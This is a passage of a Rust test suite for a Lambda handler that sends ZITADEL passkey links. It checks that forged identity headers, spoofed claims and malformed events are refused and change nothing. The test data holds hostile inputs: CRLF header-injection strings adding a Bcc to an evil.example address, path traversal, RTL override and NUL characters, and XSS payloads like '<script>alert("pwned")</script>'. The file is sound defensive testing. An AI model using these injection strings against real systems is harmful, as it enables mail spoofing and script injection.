        t.add(format!("claims: {what}"), claims(admin(), value), 401, NO_IDENTITY);
    }
    // A token requested without ZITADEL's resourceowner scope: refused, naming the cause.
    t.add("claims: no org claim", claims(admin(), json!({"sub": DEMO_ADMIN})), 401, NO_ORG_CLAIM);

    // -- forged identity next to a real one: the authorizer's caller stays the caller
    for (name, value) in forged_identity_headers() {
        t.add(format!("helpdesk adding a forged {name}"), header(helpdesk(), name, &value), 403, DENIED);
    }
    {
        let mut e = header(helpdesk(), "x-zitadel-orgid", DEMO_ORG);
        for (name, value) in forged_identity_headers() {
            e = header(e, name, &value);
        }
        t.add("helpdesk adding every forged header at once", e, 403, DENIED);
    }
    t.add(
        "helpdesk claiming the admin in the body",
        body(
            helpdesk(),
            &json!({"sub": DEMO_ADMIN, "roles": ["ORG_OWNER"], "userId": DEMO_ADMIN}).to_string(),
        ),
        403,
        DENIED,
    );
    t.add(
        "helpdesk claiming the admin in the query string",
        query(
            helpdesk(),
            &format!("sub={DEMO_ADMIN}&roles=ORG_OWNER&x-zitadel-userid={DEMO_ADMIN}"),
            json!({"sub": DEMO_ADMIN, "roles": "ORG_OWNER", "x-zitadel-userid": DEMO_ADMIN}),
        ),
        403,
        DENIED,
    );
    t.add(
        "helpdesk token with extra role claims",
        claims(
            helpdesk(),
            json!({"sub": HELPDESK, ORG_CLAIM: DEMO_ORG,
                   "urn:zitadel:iam:org:project:roles": "{\"ORG_OWNER\":{}}",
                   "roles": "IAM_OWNER", "admin": "true"}),
        ),
        403,
        DENIED,
    );
    t.add(
        "helpdesk JWT next to a Lambda authorizer context claiming the admin",
        authorizer(
            helpdesk(),
            json!({"jwt": {"claims": {"sub": HELPDESK, ORG_CLAIM: DEMO_ORG}, "scopes": null},
                   "lambda": {"sub": DEMO_ADMIN, ORG_CLAIM: DEMO_ORG}}),
        ),
        403,
        DENIED,
    );
    t.add(
        "other org's owner forging the admin for this org",
        header(event(Some((OTHER_OWNER, OTHER_ORG)), ALICE, Some(DEMO_ORG)), "x-zitadel-userid", DEMO_ADMIN),
        403,
        DENIED,
    );
    t.add(
        "helpdesk with 64 KiB cookie",
        header(helpdesk(), "cookie", &format!("s={}", "c".repeat(64 * 1024))),
        403,
        DENIED,
    );
    {
        let mut e = helpdesk();
        for i in 0..500 {
            e = header(e, &format!("x-junk-{i}"), "junk");
        }
        t.add("helpdesk with 500 junk headers", e, 403, DENIED);
    }

    // -- odd query strings change nothing
    t.add(
        "query naming Alice while the path names Bob",
        query(
            event(Some((DEMO_ADMIN, DEMO_ORG)), BOB, None),
            &format!("userId={ALICE}&orgId={DEMO_ORG}"),
            json!({"userId": ALICE, "orgId": DEMO_ORG}),
        ),
        404,
        USER_NOT_FOUND,
    );
    t.add(
        "query naming the admin's org while the header names another",
        query(
            header(admin(), "x-zitadel-orgid", OTHER_ORG),
            &format!("x-zitadel-orgid={DEMO_ORG}&orgId={DEMO_ORG}"),
            json!({"x-zitadel-orgid": DEMO_ORG, "orgId": DEMO_ORG}),
        ),
        403,
        DENIED,
    );
    t.add(
        "query naming Alice with a malformed user id in the path",
        query(user_param(admin(), "../.."), &format!("userId={ALICE}"), json!({"userId": ALICE})),
        400,
        BAD_USER_ID,
    );
    t.add(
        "query naming the route on an unknown path",
        query(
            raw_path(admin(), "/"),
            "path=%2Fmanagement%2Fv1%2Fusers%2F100000000000000011%2Fpasswordless%2F_send_link",
            json!({"path": "/management/v1/users/100000000000000011/passwordless/_send_link"}),
        ),
        404,
        NO_ROUTE,
    );
    t.add(
        "query with encoded CR LF, NUL, traversal and RTL override",
        query(
            helpdesk(),
            "a=%0d%0aBcc:%20x@evil.example&b=%00&c=..%2F..&d=%E2%80%AE&e=%F0%9F%98%80",
            json!({"a": "\r\nBcc: x@evil.example", "b": "\0", "c": "../..", "d": "\u{202e}", "e": "\u{1f600}"}),
        ),
        403,
        DENIED,
    );
    t.add(
        "query of 4 KiB",
        query(helpdesk(), &format!("q={}", "q".repeat(4096)), json!({"q": "q".repeat(4096)})),
        403,
        DENIED,
    );
    t.add(
        "query repeating a parameter",
        query(
            helpdesk(),
            &format!("sub={DEMO_ADMIN}&sub={INSTANCE_OWNER}&sub="),
            json!({"sub": format!("{DEMO_ADMIN},{INSTANCE_OWNER},")}),
        ),
        403,
        DENIED,
    );

    // -- REST API (v1) events
    for m in ["GET", "PUT", "DELETE", "PATCH"] {
        t.add(format!("REST v1, method {m}"), rest_method(rest_admin(), m), 405, WRONG_METHOD);
    }
    for id in ["../..", "\u{202e}100000000000000011", "a/b", ""] {
        t.add(format!("REST v1, user id {id:?}"), rest_user_param(rest_admin(), id), 400, BAD_USER_ID);
    }
    t.add(
        "REST v1, unknown route",
        {
            let mut e = rest_admin();
            e["path"] = "/management/v1/users/100000000000000011/passwordless/_send_link/x".into();
            e
        },
        404,
        NO_ROUTE,
    );
    t.add(
        "REST v1, x-zitadel-orgid with RTL override",
        rest_header(rest_admin(), "x-zitadel-orgid", "\u{202e}100000000000000001"),
        400,
        BAD_ORG_ID,
    );
    t.add(
        "REST v1, x-zitadel-orgid naming another org",
        rest_header(rest_admin(), "x-zitadel-orgid", OTHER_ORG),
        403,
        DENIED,
    );
    t.add("REST v1, text/plain body", rest_header(rest_admin(), "Content-Type", "text/plain"), 400, BAD_BODY);
    t.add(
        "REST v1, no authorizer, forged headers",
        {
            let mut e = rest_admin();
            e["requestContext"].as_object_mut().unwrap().remove("authorizer");
            let e = rest_header(e, "x-zitadel-userid", DEMO_ADMIN);
            rest_header(e, "x-amzn-oidc-identity", DEMO_ADMIN)
        },
        401,
        NO_IDENTITY,
    );
    t.add(
        "REST v1, Cognito claims without the org claim",
        {
            let mut e = rest_admin();
            e["requestContext"]["authorizer"]["claims"].as_object_mut().unwrap().remove(ORG_CLAIM);
            e
        },
        401,
        NO_ORG_CLAIM,
    );
    t.add(
        "REST v1, helpdesk with a forged x-zitadel-userid",
        rest_header(rest_helpdesk(), "x-zitadel-userid", DEMO_ADMIN),
        403,
        DENIED,
    );
    t.add(
        "REST v1, Lambda authorizer with a malformed principalId",
        rest_lambda_authorizer(json!({"principalId": "user|300000000000000010", ORG_CLAIM: INSTANCE_ORG})),
        401,
        NO_IDENTITY,
    );
    t.add(
        "REST v1, Lambda authorizer without the org",
        rest_lambda_authorizer(json!({"principalId": INSTANCE_OWNER})),
        401,
        NO_ORG_CLAIM,
    );
    t.add(
        "REST v1, Lambda authorizer without any principal",
        rest_lambda_authorizer(json!({ORG_CLAIM: INSTANCE_ORG, "integrationLatency": 3})),
        401,
        NO_IDENTITY,
    );

    // -- not API Gateway at all: an ALB event with ALB's OIDC identity headers
    t.add(
        "ALB event with x-amzn-oidc-identity",
        json!({
            "requestContext": {"elb": {"targetGroupArn":
                "arn:aws:elasticloadbalancing:eu-central-1:123456789012:targetgroup/passkeys/abc"}},
            "httpMethod": "POST",
            "path": format!("/management/v1/users/{ALICE}/passwordless/_send_link"),
            "queryStringParameters": {},
            "headers": {"content-type": "application/json", "host": "alb.demo.example",
                        "x-amzn-oidc-identity": DEMO_ADMIN, "x-amzn-oidc-data": forged_jwt()},
            "body": "{}",
            "isBase64Encoded": false
        }),
        401,
        NO_IDENTITY,
    );

    t.0
}

/// What a refusal must leave untouched.
#[derive(Debug, PartialEq, Eq)]
struct State {
    /// Per user: links, events, sequence.
    users: Vec<(&'static str, usize, usize, u64)>,
    /// Per mailbox: mails received.
    mails: Vec<(String, usize)>,
}

impl State {
    fn untouched(h: &Harness) -> Self {
        State {
            users: [ALICE, BOB, MACHINE].into_iter().map(|u| (u, 0, 0, 0)).collect(),
            mails: mailboxes(h).into_iter().map(|m| (m, 0)).collect(),
        }
    }

    async fn read(h: &Harness) -> Self {
        let mut users = Vec::new();
        for user in [ALICE, BOB, MACHINE] {
            users.push((
                user,
                h.items(user, "PASSKEYLINK#").await.len(),
                h.items(user, "EVENT#").await.len(),
                h.user_sequence(user).await,
            ));
        }
        let mails = mailboxes(h)
            .into_iter()
            .map(|m| {
                let n = mails_to(&m).len();
                (m, n)
            })
            .collect();
        State { users, mails }
    }
}

fn mailboxes(h: &Harness) -> Vec<String> {
    vec![h.email_of("alice", "demo.example"), h.email_of("bob", "other.example")]
}

fn built_as(e: &Value) -> &'static str {
    if e["version"] == "2.0" {
        "HTTP API (v2)"
    } else if e["requestContext"].get("elb").is_some() {
        "ALB"
    } else {
        "REST API (v1)"
    }
}

fn read_as(request: &lambda_http::Request) -> &'static str {
    match request.request_context_ref() {
        Some(RequestContext::ApiGatewayV2(_)) => "HTTP API (v2)",
        Some(RequestContext::Alb(_)) => "ALB",
        Some(RequestContext::ApiGatewayV1(_)) => "REST API (v1)",
        _ => "something else",
    }
}

/// Runs one row; `Err` lists everything that was wrong with it.
async fn run_case(h: &Arc<Harness>, case: &Case, before: &mut State) -> Result<(), String> {
    let &(_, documented_status, grpc_code) =
        CATALOGUE.iter().find(|(id, _, _)| *id == case.id).expect("the row's ID is in the catalogue");
    assert_eq!(
        case.status, documented_status,
        "row {:?}: the status disagrees with docs/errors.md",
        case.name
    );
    h.calls.take();
    let task = {
        let (h, event, want_allow) = (h.clone(), case.event.clone(), case.id == WRONG_METHOD);
        tokio::spawn(async move {
            let (status, body) = parse_invocation(&h.invoke(event.clone()).await);
            let allow = if want_allow {
                let request = lambda_http::request::from_str(&event.to_string()).unwrap();
                let response = h.api.handle(request).await;
                response.headers().get("allow").map(|v| v.to_str().unwrap_or_default().to_owned())
            } else {
                None
            };
            (status, body, allow)
        })
    };
    let (status, body, allow) = task.await.map_err(|e| format!("the handler panicked: {e}"))?;

    let mut problems = Vec::new();
    if status >= 500 {
        problems.push(format!("a {status}"));
    }
    if (status, error_id(&body)) != (case.status, case.id) {
        problems.push(format!(
            "got {status} {:?}, docs/errors.md documents {} {}",
            error_id(&body),
            case.status,
            case.id
        ));
    }
    if status == case.status && body["code"] != grpc_code {
        problems.push(format!("gRPC code {}, expected {grpc_code}", body["code"]));
    }
    if status != 200 {
        if body["details"][0]["@type"] != "type.googleapis.com/zitadel.v1.ErrorDetail" {
            problems.push("not a grpc-gateway error detail".into());
        }
        let message = body["message"].as_str().unwrap_or_default();
        if !message.ends_with(&format!("({})", error_id(&body))) {
            problems.push(format!("message {message:?} does not end with its ID"));
        }
    }
    if case.id == WRONG_METHOD && allow.as_deref() != Some("POST") {
        problems.push(format!("Allow header {allow:?}, expected POST"));
    }

    let calls = h.calls.take();
    if calls.iter().any(|c| c != "DynamoDB.BatchGetItem") || calls.len() > 1 {
        problems.push(format!("AWS calls beyond one read: {calls:?}"));
    }
    if DECIDED_WITHOUT_AWS.contains(&case.id) && !calls.is_empty() {
        problems.push(format!("a refusal from the request alone called AWS: {calls:?}"));
    }
    let after = State::read(h).await;
    if after != *before {
        problems.push(format!("something was written or sent: {before:?} -> {after:?}"));
        *before = after;
    }
    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!("{status} {body}: {}", problems.join("; ")))
    }
}

#[tokio::test]
async fn hostile_requests_get_their_documented_refusal_and_change_nothing() {
    let h = Arc::new(Harness::new().await);
    let cases = cases();
    let total = cases.len();
    let mut state = State::untouched(&h);
    let mut ran = 0;
    let mut failures = Vec::new();
    for case in &cases {
        ran += 1;
        // A row must test what it was built as, not a shape lambda_http fell back to (rows
        // it cannot read at all are answered before it, by send_passkey_link::event).
        if let Ok(request) = send_passkey_link::event::request_from(case.event.clone()) {
            if read_as(&request) != built_as(&case.event) {
                failures.push(format!(
                    "{}: built as {}, read as {}",
                    case.name,
                    built_as(&case.event),
                    read_as(&request)
                ));
            }
        }
        if let Err(why) = run_case(&h, case, &mut state).await {
            failures.push(format!("{}: {why}", case.name));
        }
    }
    assert_eq!(State::read(&h).await, State::untouched(&h), "nothing written or sent");
    println!("hostile cases: {total} in the table, {ran} run through the handler");
    println!("passed: {}, failed: {}", ran - failures.len(), failures.len());
    for failure in &failures {
        println!("FAILED {failure}");
    }
    assert!(ran >= 110, "only {ran} hostile cases ran");
    assert!(failures.is_empty(), "{} of {ran} cases failed:\n{}", failures.len(), failures.join("\n"));
}

// ---- outside the table ----

async fn seed_user(h: &Harness, id: &str, email: Option<&str>, display_name: Option<&str>) {
    h.table
        .upsert_user(&UserProfile {
            id: &UserId::parse(id).unwrap(),
            org_id: &OrgId::parse(DEMO_ORG).unwrap(),
            kind: UserKind::Human,
            state: UserState::Active,
            email,
            display_name,
            name: &Default::default(),
            preferred_language: Some("en"),
            user_name: None,
        })
        .await
        .unwrap();
}

#[tokio::test]
async fn stored_addresses_that_are_not_one_valid_recipient_get_no_link() {
    let h = Harness::new().await;
    let eve = h.email_of("eve", "demo.example");
    let mallory = h.email_of("mallory", "evil.example");
    let bad = [
        format!("{eve}\r\nBcc: {mallory}"),
        format!("{eve}\nCc: {mallory}"),
        format!("{eve}\r"),
        format!("{eve}\r\n"),
        format!("{eve}, {mallory}"),
        format!("{eve};{mallory}"),
        format!("Eve <{eve}>"),
        format!("\"Eve\" {eve}"),
        format!("{eve}\0"),
        format!(" {eve}"),
        format!("{eve}\t"),
        format!("{eve}\u{2028}"),
        format!("eve+{}", h.tag),
        format!("eve+{}@localhost", h.tag),
        format!("eve+{}@@demo.example", h.tag),
        format!("eve+{}@demo..example", h.tag),
        format!("{}+{}@demo.example", "e".repeat(64), h.tag),
        format!("eve+{}@{}.example", h.tag, "d".repeat(250)),
        // Bidi and zero-width characters are not allowed in any domain name (IDNA2008).
        format!("eve+{}@demo\u{202e}.example", h.tag),
        format!("eve+{}@de\u{200b}mo.example", h.tag),
    ];
    let mut failures = Vec::new();
    for (i, email) in bad.iter().enumerate() {
        let id = format!("6660000000000000{i:02}");
        seed_user(&h, &id, Some(email), Some("Eve")).await;
        h.calls.take();
        let (status, body) = h.call(&event(Some((DEMO_ADMIN, DEMO_ORG)), &id, None)).await;
        let calls = h.calls.take();
        let mut problems = Vec::new();
        if (status, error_id(&body)) != (400, BAD_EMAIL) || body["code"] != 9 {
            problems.push(format!("got {status} {body}"));
        }
        if calls != ["DynamoDB.BatchGetItem"] {
            problems.push(format!("AWS calls {calls:?}"));
        }
        let links = h.items(&id, "PASSKEYLINK#").await.len();
        let events = h.items(&id, "EVENT#").await.len();
        let sequence = h.user_sequence(&id).await;
        if (links, events, sequence) != (0, 0, 0) {
            problems.push(format!("stored: {links} links, {events} events, sequence {sequence}"));
        }
        if !problems.is_empty() {
            failures.push(format!("{email:?}: {}", problems.join("; ")));
        }
    }
    for address in [&eve, &mallory] {
        assert!(mails_to(address).is_empty(), "a mail went to {address}");
    }
    assert!(
        failures.is_empty(),
        "{} of {} addresses were not refused cleanly:\n{}",
        failures.len(),
        bad.len(),
        failures.join("\n")
    );
}

#[tokio::test]
async fn hostile_display_name_is_escaped_in_html_and_kept_out_of_headers() {
    let h = Harness::new().await;
    let email = h.email_of("mallory", "demo.example");
    let bcc = h.email_of("bcc", "evil.example");
    let name = format!(
        "<script>alert(\"pwned\")</script>\r\nBcc: {bcc}\r\nSubject: pwned\n<img src=x onerror=alert(1)> & 'Co'"
    );
    let id = "777000000000000001";
    seed_user(&h, id, Some(&email), Some(&name)).await;
    let (status, body) = h.call(&event(Some((DEMO_ADMIN, DEMO_ORG)), id, None)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(h.items(id, "PASSKEYLINK#").await.len(), 1);

    let mails = mails_to(&email);
    assert_eq!(mails.len(), 1, "exactly one mail");
    let mail = &mails[0];
    let html = mail["body"]["html"].as_str().unwrap();
    assert!(!html.contains("<script"), "raw script tag in the HTML: {html}");
    assert!(!html.contains("<img"), "raw img tag in the HTML: {html}");
    assert!(html.contains("&lt;script&gt;alert("), "the name shows, escaped: {html}");
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"), "{html}");
    assert!(html.contains("&amp;"), "{html}");
    let subject = mail["subject"].as_str().unwrap();
    assert!(!subject.contains(['\r', '\n']) && !subject.contains("pwned"), "{subject:?}");
    let from = mail["from"].as_str().unwrap();
    assert!(!from.contains(['\r', '\n']), "{from:?}");
    let text = mail["body"]["text"].as_str().unwrap();
    assert!(
        !text.contains("\nBcc:") && !text.contains("\nSubject:"),
        "the name stays on one line in the text part: {text}"
    );
    assert!(mails_to(&bcc).is_empty(), "nothing to the injected Bcc");
}

#[tokio::test]
async fn org_texts_with_line_breaks_never_reach_the_headers() {
    let h = Harness::new().await;
    let bcc = h.email_of("bcc", "evil.example");
    let texts = CustomTexts {
        sender_name: Some(format!("Demo IT\r\nBcc: {bcc}")),
        languages: std::collections::BTreeMap::from([(
            "en".to_owned(),
            StoredText {
                text: MessageText {
                    subject: Some(format!("New passkey\r\nBcc: {bcc}\nX-Evil: 1")),
                    ..MessageText::default()
                },
                ..StoredText::default()
            },
        )]),
    };
    h.store_texts_unchecked(TextLevel::Org(OrgId::parse(DEMO_ORG).unwrap()), texts).await;
    let (status, body) = h.call(&event(Some((DEMO_ADMIN, DEMO_ORG)), ALICE, None)).await;
    assert_eq!(status, 200, "{body}");
    let mails = mails_to(&h.email_of("alice", "demo.example"));
    assert_eq!(mails.len(), 1);
    let subject = mails[0]["subject"].as_str().unwrap();
    assert!(!subject.contains(['\r', '\n']), "{subject:?}");
    assert!(subject.starts_with("New passkey"), "{subject:?}");
    let from = mails[0]["from"].as_str().unwrap();
    assert!(!from.contains(['\r', '\n']), "{from:?}");
    assert!(from.contains("no-reply@demo.example"), "{from:?}");
    assert!(mails_to(&bcc).is_empty(), "nothing to the injected Bcc");
}

#[tokio::test]
async fn odd_query_strings_do_not_change_whom_the_link_goes_to() {
    let h = Harness::new().await;
    let e = query(
        admin(),
        &format!(
            "userId={BOB}&orgId={OTHER_ORG}&x-zitadel-orgid={OTHER_ORG}&sub={HELPDESK}\
             &returnCode=true&a=%0d%0a&b=%00&c=..%2F..&d=%E2%80%AE"
        ),
        json!({"userId": BOB, "orgId": OTHER_ORG, "x-zitadel-orgid": OTHER_ORG,
               "sub": HELPDESK, "returnCode": "true", "a": "\r\n", "b": "\0",
               "c": "../..", "d": "\u{202e}"}),
    );
    let (status, body) = h.call(&e).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["details"]["resourceOwner"], DEMO_ORG);
    assert_eq!(body["details"].as_object().unwrap().len(), 3, "{body}");
    assert!(!body.to_string().contains("code\""), "returnCode changes nothing: {body}");
    assert_eq!(mails_to(&h.email_of("alice", "demo.example")).len(), 1);
    assert!(mails_to(&h.email_of("bob", "other.example")).is_empty());
    assert_eq!(h.user_sequence(ALICE).await, 1);
    assert_eq!(h.user_sequence(BOB).await, 0);
    let events = h.items(ALICE, "EVENT#").await;
    assert_eq!(events[0]["editorUserId"].as_s().unwrap(), DEMO_ADMIN);
}

#[tokio::test]
async fn body_of_exactly_16_kib_is_accepted() {
    let h = Harness::new().await;
    let text = format!("{{\"a\":\"{}\"}}", "x".repeat(16 * 1024 - 8));
    assert_eq!(text.len(), 16 * 1024);
    let (status, body) = h.call(&body_event(&text)).await;
    assert_eq!(status, 200, "docs/errors.md: at most 16 KiB: {body}");
}

#[tokio::test]
async fn body_nested_127_levels_deep_is_accepted_and_128_is_not() {
    let h = Harness::new().await;
    // 126 objects around an empty one: 127 levels.
    let text = format!("{}{{}}{}", "{\"a\":".repeat(126), "}".repeat(126));
    let (status, body) = h.call(&body_event(&text)).await;
    assert_eq!(status, 200, "docs/errors.md: at most 127 levels deep: {body}");
    let text = format!("{}{{}}{}", "{\"a\":".repeat(127), "}".repeat(127));
    let (status, body) = h.call(&body_event(&text)).await;
    assert_eq!((status, error_id(&body)), (400, BAD_BODY), "128 levels: {body}");
}

fn body_event(text: &str) -> Value {
    body(admin(), text)
}
